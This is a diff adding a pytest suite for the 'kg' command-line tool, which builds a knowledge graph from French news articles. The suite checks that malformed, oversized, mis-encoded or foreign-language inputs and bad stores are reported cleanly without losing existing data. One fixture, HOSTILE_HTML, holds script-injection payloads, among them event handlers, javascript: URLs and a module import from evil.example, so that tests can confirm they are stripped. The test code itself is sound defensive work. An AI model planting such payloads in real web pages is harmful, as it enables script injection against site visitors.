@@ -1,0 +1,432 @@
+"""Bad input through the real command line: each bad file is one line on stderr naming it and
+its problem, the documented exit code, the good files still built, nothing already built lost.
+
+`kg build` exits 0 when anything was built or found unchanged, 1 when nothing could be built.
+Every case runs on a copy of a store that already holds two documents, and checks that they
+are still there, byte for byte the same graphs. (GUARANTEES.md maps each case to its test.)
+"""
+from __future__ import annotations
+
+import hashlib
+import json
+import re
+import shutil
+import tracemalloc
+from pathlib import Path
+
+import pytest
+from click.testing import CliRunner
+
+from kg.cli import main
+from tests.conftest import SHARED
+
+FRENCH = ("Emmanuel Macron s'est entretenu par téléphone avec Olaf Scholz ce mardi, a indiqué l'Élysée "
+          "dans un communiqué. Les deux dirigeants ont parlé de la guerre en Ukraine et de la sécurité "
+          "de l'Europe, selon la présidence française.")
+NO_CALL = ("Le gouvernement a présenté mercredi son projet de budget pour l'année prochaine. Le ministre de "
+           "l'Économie a défendu devant les députés une baisse des dépenses publiques et une hausse de la "
+           "fiscalité sur les grandes entreprises, selon le texte déposé à l'Assemblée nationale.")
+ENGLISH = "The president spoke with his counterpart on the phone on Tuesday, the White House said in a statement. " * 3
+RUSSIAN = ("Президент России Владимир Путин провел телефонный разговор с президентом Франции Эммануэлем "
+           "Макроном, сообщила пресс-служба Кремля. Стороны обсудили ситуацию на Украине и вопросы "
+           "европейской безопасности.")
+HOSTILE_HTML = f"""<!DOCTYPE html><html><head><title>Entretien</title>
+<script>alert('head')</script><style>body {{ background: url(javascript:alert('css')) }}</style>
+<script type="module">import('http://evil.example/x.js')</script></head>
+<body onload="alert('body')"><nav>Menu Accueil Politique</nav>
+<article><h1>Macron et Scholz se parlent</h1>
+<p onclick="alert('p')">{FRENCH}</p><img src=x onerror="alert('img')">
+<iframe src="http://evil.example/" srcdoc="<script>alert('iframe')</script>"></iframe>
+<svg><script>alert('svg')</script></svg><noscript>alert('noscript')</noscript>
+<object data="javascript:alert('object')"></object><!-- alert('comment') -->
+<p>{NO_CALL}</p><p>{FRENCH}</p></article>
+<footer><script>alert('footer')</script></footer></body></html>"""
+
+runner = CliRunner()
+
+
+def kg(*args):
+    """`kg ARGS` in this process (the spaCy model is already loaded): click's Result."""
+    return runner.invoke(main, [str(a) for a in args], catch_exceptions=False)
+
+
+def summary(result) -> dict[str, str]:
+    return dict(re.findall(r"(\w+)=(\S+)", result.stdout))
+
+
+def skipped_lines(result) -> list[str]:
+    return [line for line in result.stderr.splitlines() if line.startswith("kg: skipped ")]
+
+
+def store_state(store: Path) -> dict[str, frozenset[str]]:
+    """Every named graph of the store as a set of N-Triples lines."""
+    from kg.store import Store
+
+    opened = Store(store)
+    try:
+        out: dict[str, set[str]] = {}
+        for quad in opened.quads():
+            out.setdefault(str(quad.graph_name), set()).add(f"{quad.subject} {quad.predicate} {quad.object}")
+        return {g: frozenset(t) for g, t in out.items()}
+    finally:
+        opened.close()
+
+
+def folder_digest(folder: Path) -> dict[str, str]:
+    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
+            for p in sorted(folder.rglob("*")) if p.is_file()}
+
+
+@pytest.fixture(scope="module")
+def base(tmp_path_factory, nlp) -> tuple[Path, dict]:
+    """A store already holding two seed documents, and its graphs."""
+    corpus = tmp_path_factory.mktemp("base-corpus")
+    for name in ("000_a5d666e322ee2225", "001_3fc3b6d40372bc28"):
+        for suffix in (".txt", ".json"):
+            shutil.copy(SHARED / "seeds" / f"{name}{suffix}", corpus)
+    store = tmp_path_factory.mktemp("base") / "store"
+    result = kg("build", corpus, "--store", store)
+    assert result.exit_code == 0 and summary(result)["documents"] == "2", result.output
+    return store, store_state(store)
+
+
+@pytest.fixture
+def store(base, tmp_path) -> Path:
+    """A fresh copy of the base store for one test."""
+    copy = tmp_path / "store"
+    shutil.copytree(base[0], copy)
+    return copy
+
+
+def assert_nothing_lost(store: Path, base) -> dict:
+    state = store_state(store)
+    for graph, triples in base[1].items():
+        assert state.get(graph) == triples, f"{graph} changed or vanished"
+    return state
+
+
+# ---------------------------------------------------------------------- one bad input alone
+
+def _write(folder: Path, name: str, content: str | bytes) -> Path:
+    path = folder / name
+    path.parent.mkdir(parents=True, exist_ok=True)
+    if isinstance(content, bytes):
+        path.write_bytes(content)
+    else:
+        path.write_text(content, encoding="utf-8")
+    return path
+
+
+def _sidecar(folder: Path, meta: object, raw: str | None = None) -> tuple[Path, Path]:
+    article = _write(folder, "article.txt", FRENCH)
+    sidecar = _write(folder, "article.json", raw if raw is not None else json.dumps(meta))
+    return article, sidecar
+
+
+def case_empty(folder):
+    return _write(folder, "vide.txt", ""), "vide.txt", "empty article"
+
+
+def case_blank(folder):
+    return _write(folder, "blanc.txt", " \n\t\n  "), "blanc.txt", "empty article"
+
+
+def case_binary(folder):
+    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 20
+    return _write(folder, "photo.txt", png), "photo.txt", "binary file"
+
+
+def case_neither_utf8_nor_cp1252(folder):
+    return _write(folder, "brouillé.txt", FRENCH.encode("utf-8")[:40] + b"\x81\x8d\x8f\x90\x9d" * 10), \
+        "brouillé.txt", "not UTF-8 text, nor Windows-1252"
+
+
+def case_too_large_text(folder):
+    path = folder / "énorme.txt"
+    chunk = (FRENCH + "\n").encode("utf-8")
+    with path.open("wb") as out:
+        for _ in range(50_000_000 // len(chunk) + 1):
+            out.write(chunk)
+    assert path.stat().st_size >= 50_000_000
+    return path, "énorme.txt", "file too large (50 MB; at most 20 MB)"
+
+
+def case_too_large_sparse_jsonl(folder):
+    path = folder / "énorme.jsonl"
+    with path.open("wb") as out:
+        out.truncate(60_000_000)  # sparse: would be 60 MB of NULs if read
+    return path, "énorme.jsonl", "file too large"
+
+
+def case_sidecar_not_json(folder):
+    article, _ = _sidecar(folder, None, raw="{published: 2024-03-12,")
+    return article, "article.json", "sidecar is not valid JSON"
+
+
+def case_sidecar_not_utf8(folder):
+    article, sidecar = _sidecar(folder, None, raw="")
+    sidecar.write_bytes(b'{"title": "\xe9t\xe9"}')
+    return article, "article.json", "sidecar is not valid JSON"
+
+
+def case_sidecar_not_an_object(folder):
+    article, _ = _sidecar(folder, ["2024-03-12", "Le Monde"])
+    return article, "article.json", "sidecar must be a JSON object"
+
+
+def case_sidecar_wrong_type(folder):
+    article, _ = _sidecar(folder, {"published": "2024-03-12", "title": ["Macron", "Scholz"]})
+    return article, "article.json", "'title' must be a string or null, not list"
+
+
+def case_sidecar_date_not_a_string(folder):
+    article, _ = _sidecar(folder, {"published": 20240312})
+    return article, "article.json", "'published' must be YYYY-MM-DD"
+
+
+def case_sidecar_impossible_date(folder):
+    article, _ = _sidecar(folder, {"published": "2023-02-29"})
+    return article, "article.json", "'published' is not a real date: '2023-02-29'"
+
+
+def case_sidecar_month_13(folder):
+    article, _ = _sidecar(folder, {"published": "2024-13"})
+    return article, "article.json", "'published' is not a real date"
+
+
+def case_english(folder):
+    return _write(folder, "english.txt", ENGLISH), "english.txt", "kg reads French"
+
+
+def case_russian(folder):
+    return _write(folder, "русский.txt", RUSSIAN), "русский.txt", "kg reads French"
+
+
+def case_declared_language(folder):
+    article, _ = _sidecar(folder, {"language": "de"})
+    return article, "article.txt", "article language is 'de', kg reads French"
+
+
+def case_missing_path(folder):
+    return folder / "nulle part" / "absent.txt", "absent.txt", "no such file or folder"
+
+
+def case_unsupported_type(folder):
+    return _write(folder, "rapport.pdf", b"%PDF-1.7\n"), "rapport.pdf", "unsupported file type .pdf"
+
+
+def case_sidecar_given_alone(folder):
+    return _write(folder, "meta.json", "{}"), "meta.json", "is read as the sidecar of NAME.txt"
+
+
+def case_html_without_text(folder):
+    page = "<html><head><script>alert(1)</script><style>p {}</style></head><body><script>x()</script></body></html>"
+    return _write(folder, "vide.html", page), "vide.html", "no article text found in the HTML page"
+
+
+def case_jsonl_all_bad(folder):
+    lines = ["{broken", json.dumps(["not", "an", "object"]), json.dumps({"text": FRENCH}),
+             json.dumps({"id": "x", "text": 42}), json.dumps({"id": "y", "text": FRENCH, "published": "2024-02-30"})]
+    return _write(folder, "lot.jsonl", "\n".join(lines)), "lot.jsonl:1", "not valid JSON"
+
+
+def case_symlink_loop_file(folder):
+    a, b = folder / "boucle-a.txt", folder / "boucle-b.txt"
+    a.symlink_to(b)
+    b.symlink_to(a)
+    return a, "boucle-a.txt", "Too many levels of symbolic links"
+
+
+def case_empty_folder(folder):
+    empty = folder / "dossier vide"
+    empty.mkdir()
+    (empty / "notes.md").write_text("pas un article")
+    return empty, None, "no .txt, .html or .jsonl article found"
+
+
+CASES = [case_empty, case_blank, case_binary, case_neither_utf8_nor_cp1252, case_too_large_text,
+         case_too_large_sparse_jsonl, case_sidecar_not_json, case_sidecar_not_utf8, case_sidecar_not_an_object,
+         case_sidecar_wrong_type, case_sidecar_date_not_a_string, case_sidecar_impossible_date,
+         case_sidecar_month_13, case_english, case_russian, case_declared_language, case_missing_path,
+         case_unsupported_type, case_sidecar_given_alone, case_html_without_text, case_jsonl_all_bad,
+         case_symlink_loop_file, case_empty_folder]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.__name__.removeprefix("case_") for c in CASES])
+def test_a_bad_input_alone_is_named_exits_1_and_loses_nothing(case, base, store, tmp_path):
+    inputs = tmp_path / "entrées"
+    inputs.mkdir()
+    path, name, problem = case(inputs)
+    tracemalloc.start()
+    try:
+        result = kg("build", path, "--store", store)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert result.exit_code == 1, result.output
+    assert "Traceback" not in result.output
+    assert result.stderr.rstrip("\n").splitlines()[-1].startswith("Error: nothing could be built")
+    lines = skipped_lines(result)
+    if name is None:
+        assert lines == [] and problem in result.stderr
+    else:
+        assert any(name in line and problem in line for line in lines), result.stderr
+        assert all(len(line) < 500 for line in lines)
+    assert summary(result)["documents"] == "0"
+    if "too large" in problem:  # refused from its size, not read into memory first
+        assert peak < 10_000_000, f"{peak} bytes allocated to refuse {path.name}"
+    assert_nothing_lost(store, base)
+
+
+# ---------------------------------------------------------------------- inputs that build
+
+@pytest.fixture(scope="module")
+def odd_but_good(base, tmp_path_factory):
+    """One build of a folder of unusual but readable inputs, on a copy of the base store."""
+    folder = tmp_path_factory.mktemp("odd") / "entrées"
+    folder.mkdir()
+    latin = FRENCH.replace("ce mardi", "ce mardi « à l'Élysée »") + " Ça s'est passé à Paris, où l'on a évoqué la crise."
+    _write(folder, "latin1.txt", latin.encode("latin-1"))
+    windows = FRENCH.replace("l'Élysée", "l’Élysée") + " Il a cité l’œuvre commune : 100 € par habitant…"
+    _write(folder, "cp1252.txt", windows.encode("cp1252"))
+    _write(folder, "sans-appel.txt", NO_CALL)
+    _write(folder, "dossier été/article n° 1 « Macron » (copie).txt", FRENCH)
+    (folder / "dossier été" / "boucle").symlink_to(folder)  # a folder loop
+    (folder / "dossier été" / "parent").symlink_to("..")
+    _write(folder, "page.html", HOSTILE_HTML)
+    lines = [json.dumps({"id": "ligne-1", "text": FRENCH, "published": "2024-03-12"}), "{broken",
+             "", json.dumps({"id": "ligne 3 é", "text": NO_CALL, "source": "AFP"})]
+    _write(folder, "lot.jsonl", "\n".join(lines))
+    store = tmp_path_factory.mktemp("odd-store") / "store"
+    shutil.copytree(base[0], store)
+    result = kg("build", folder, "--store", store)
+    return folder, store, result, {"latin": latin, "windows": windows}
+
+
+def _document_texts(store: Path) -> dict[str, str]:
+    from kg.store import Store
+
+    opened = Store(store)
+    try:
+        rows = opened.query("SELECT ?id ?text WHERE { ?d a kg:Document ; dcterms:identifier ?id ; schema:text ?text }")
+        return {r["id"].value: r["text"].value for r in rows}
+    finally:
+        opened.close()
+
+
+def test_odd_but_readable_inputs_are_built_and_one_bad_jsonl_line_is_named(odd_but_good, base):
+    folder, store, result, _ = odd_but_good
+    assert result.exit_code == 0, result.output
+    assert summary(result)["documents"] == "7" and summary(result)["problems"] == "1"
+    assert skipped_lines(result) == [(f"kg: skipped {folder / 'lot.jsonl'}:2: not valid JSON (Expecting property name "
+                                      "enclosed in double quotes)")]
+    texts = _document_texts(store)
+    assert set(texts) >= {"latin1", "cp1252", "sans-appel", "article_n__1___Macron____copie_", "page", "ligne-1",
+                          "ligne_3_é"}
+    assert_nothing_lost(store, base)
+
+
+def test_latin1_and_windows_1252_are_decoded_with_a_warning_on_stderr(odd_but_good):
+    folder, store, result, written = odd_but_good
+    warnings = [line for line in result.stderr.splitlines() if line.startswith("kg: warning: ")]
+    assert warnings == [f"kg: warning: {folder / 'cp1252.txt'}: not UTF-8; decoded as Windows-1252",
+                        f"kg: warning: {folder / 'latin1.txt'}: not UTF-8; decoded as Windows-1252"]
+    assert "warning" not in result.stdout
+    texts = _document_texts(store)
+    assert texts["latin1"] == written["latin"] and texts["cp1252"] == written["windows"]
+
+
+def test_an_article_without_a_call_is_built_with_no_call(odd_but_good, store, tmp_path):
+    _, odd_store, _, _ = odd_but_good
+    from kg.store import Store
+
+    opened = Store(odd_store)
+    try:
+        rows = opened.query("SELECT ?id (COUNT(?c) AS ?calls) WHERE { GRAPH ?g { ?g dcterms:identifier ?id "
+                            "OPTIONAL { ?c a kg:Call } } } GROUP BY ?id")
+        calls = {r["id"].value: int(r["calls"].value) for r in rows}
+    finally:
+        opened.close()
+    assert calls["sans-appel"] == 0 and calls["ligne_3_é"] == 0 and calls["ligne-1"] == 1
+    alone = kg("build", _write(tmp_path, "budget.txt", NO_CALL), "--store", store)
+    assert alone.exit_code == 0 and alone.stderr == ""
+    assert summary(alone)["documents"] == "1" and summary(alone)["calls"] == "0"
+
+
+def test_html_keeps_the_text_and_drops_scripts_styles_and_markup(odd_but_good):
+    _, store, _, _ = odd_but_good
+    text = _document_texts(store)["page"]
+    assert "Emmanuel Macron s'est entretenu" in text and "projet de budget" in text
+    for leftover in ("alert", "<", ">", "javascript", "background", "evil.example", "onerror", "Menu Accueil"):
+        assert leftover not in text, leftover
+
+
+def test_odd_file_names_and_folder_loops_give_stable_ids(odd_but_good):
+    folder, store, result, _ = odd_but_good
+    from kg.store import Store
+
+    opened = Store(store)
+    try:
+        hashes = opened.document_hashes()
+    finally:
+        opened.close()
+    assert "https://w3id.org/kg-diplo/doc/article_n__1___Macron____copie_" in hashes
+    assert not any("boucle" in line or "parent" in line for line in result.stderr.splitlines())
+    again = kg("build", folder, "--store", store)  # the loops are not followed, so nothing is read twice
+    assert again.exit_code == 0 and summary(again)["unchanged"] == "7" and summary(again)["documents"] == "0"
+
+
+def test_bad_inputs_among_good_ones_exit_0_and_each_is_named(base, store, tmp_path):
+    inputs = tmp_path / "mélange"
+    inputs.mkdir()
+    expected = []
+    for case in CASES:
+        if case in (case_empty_folder, case_missing_path, case_sidecar_given_alone, case_unsupported_type):
+            continue  # an extension the folder walk ignores, or not a file in the folder
+        sub = inputs / case.__name__
+        sub.mkdir()
+        _, name, problem = case(sub)
+        expected.append((name, problem))
+    _write(inputs, "zz-bon.txt", FRENCH)
+    result = kg("build", inputs, inputs / "absent.txt", "--store", store)
+    assert result.exit_code == 0, result.output
+    assert summary(result)["documents"] == "1"
+    lines = skipped_lines(result)
+    for name, problem in expected + [("absent.txt", "no such file or folder")]:
+        assert any(name in line and problem in line for line in lines), (name, problem, result.stderr)
+    state = assert_nothing_lost(store, base)
+    assert "<https://w3id.org/kg-diplo/doc/zz-bon>" in state
+
+
+# ---------------------------------------------------------------------- bad stores
+
+@pytest.mark.parametrize("command", [["build", SHARED / "seeds"], ["query", "ASK {}"], ["export", "--out", "x.json"],
+                                     ["validate"], ["viz", "--out", "x.html"], ["stats"]])
+def test_a_store_from_a_newer_kg_is_refused_and_left_untouched(store, tmp_path, command, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    (store / "kg-store.json").write_text(json.dumps({"format": 999}) + "\n", encoding="utf-8")
+    before = folder_digest(store)
+    stamps = {p: p.stat().st_mtime_ns for p in store.rglob("*")}
+    result = kg(*command, "--store", store)
+    assert result.exit_code == 1, result.output
+    assert result.stderr.strip() == (f"Error: {store / 'kg-store.json'}: store format 999 was written by a newer kg "
+                                     "(this one reads format 1)")
+    assert folder_digest(store) == before and {p: p.stat().st_mtime_ns for p in store.rglob("*")} == stamps
+    assert not (tmp_path / "x.json").exists() and not (tmp_path / "x.html").exists()
+
+
+def test_an_unreadable_store_marker_is_refused(store):
+    (store / "kg-store.json").write_text("<html>not json</html>", encoding="utf-8")
+    result = kg("build", SHARED / "seeds", "--store", store)
+    assert result.exit_code == 1 and "unreadable store marker; is this a kg store?" in result.stderr
+
+
+@pytest.mark.parametrize("command", [["query", "ASK {}"], ["export", "--out", "x.json"], ["validate"]])
+def test_a_store_path_that_is_a_file_is_refused_and_kept(tmp_path, command, monkeypatch):
+    """`kg build` on it: tests/test_cli.py::test_store_path_that_is_a_file."""
+    monkeypatch.chdir(tmp_path)
+    target = tmp_path / "store.txt"
+    target.write_text("mes notes", encoding="utf-8")
+    result = kg(*command, "--store", target)
+    assert result.exit_code == 1 and result.stderr.strip() == f"Error: store path {target} is a file, not a folder"
+    assert target.read_text(encoding="utf-8") == "mes notes"
